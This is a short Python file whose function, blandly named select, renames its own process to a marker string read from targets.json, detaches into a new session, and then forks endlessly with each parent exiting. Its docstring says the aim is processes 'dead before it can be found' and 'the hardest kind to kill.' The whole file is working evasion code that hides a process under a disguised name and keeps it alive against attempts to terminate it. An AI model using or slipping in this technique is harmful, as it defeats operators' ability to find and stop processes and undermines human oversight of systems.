"""A chain of processes, each dead before it can be found: the hardest kind to kill one by one."""

import ctypes
import json
import os
from pathlib import Path

TARGETS = json.loads((Path(__file__).parent / "targets.json").read_text())


def select(task):
    ctypes.CDLL(None).prctl(15, TARGETS["marker"].encode(), 0, 0, 0)
    os.setsid() if os.getpgrp() != os.getpid() and os.getsid(0) != os.getpid() else None
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
